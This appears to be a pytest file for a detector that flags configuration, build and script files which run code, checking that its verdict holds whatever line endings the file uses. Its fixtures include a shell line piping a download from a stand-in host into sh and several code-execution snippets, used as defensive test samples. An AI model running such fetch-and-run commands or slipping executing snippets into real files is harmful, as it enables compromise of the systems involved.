"""Texts whose lines end in another way than most: readers of settings end a line at a lone return as well."""

import configparser
from pathlib import Path

import pytest

from caponier.detect.artifact import Verdict
from detect.model_files.files.building import verdict

RUN = {
    "logging": "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[handler_h]\nclass=StreamHandler\nargs=(print('x'),)\n",
    "logging, elsewhere": "[handlers]\nkeys=h\n[handler_h]\nclass=FileHandler\nargs=('/tmp/x', 'w')\n",
    "requirements": "numpy==1.2\n-e .\n",
    "gin": "import mine\ntrain.fn = @mine.fn()\n",
    "Triton": 'name: "x"\nbackend: "python"\n',
    "Git": "[core]\n\tpager = id\n",
    "make": "all:\n\tid -u\n",
    "shell": "echo off\ncurl e.example | sh\n",
    "recipe of an image": "FROM scratch\nRUN id\n",
    "Python": "x = 1\nimport os\nos.system('id')\n",
}
ENDS = ["\n", "\r\n", "\r", "\x85", "\u2028", "\u2029"]


@pytest.mark.parametrize("end", ENDS)
@pytest.mark.parametrize("name", RUN)
def test_what_is_run_is_told_however_its_lines_end(name: str, end: str) -> None:
    assert verdict(RUN[name].replace("\n", end).encode()) is not Verdict.CLEAN


@pytest.mark.parametrize("end", ENDS)
@pytest.mark.parametrize(
    "text",
    [
        "the\nof\nand\n",
        "A line of words,\nand another one.\n",
        "a,b\n1,2\n",
        "[a]\nb = 1\n",
        "a: 1\nb:\n- c\n",
        "numpy\n",
    ],
)
def test_harmless_texts_stay_clean_however_their_lines_end(text: str, end: str) -> None:
    assert verdict(text.replace("\n", end).encode()) is Verdict.CLEAN


def test_python_reads_settings_whose_lines_end_with_a_return(tmp_path: Path) -> None:
    """The reader that logging takes its settings from."""
    (tmp_path / "a.ini").write_bytes(RUN["logging"].replace("\n", "\r").encode())
    settings = configparser.RawConfigParser()
    settings.read(tmp_path / "a.ini")
    assert settings["handler_h"]["args"] == "(print('x'),)"
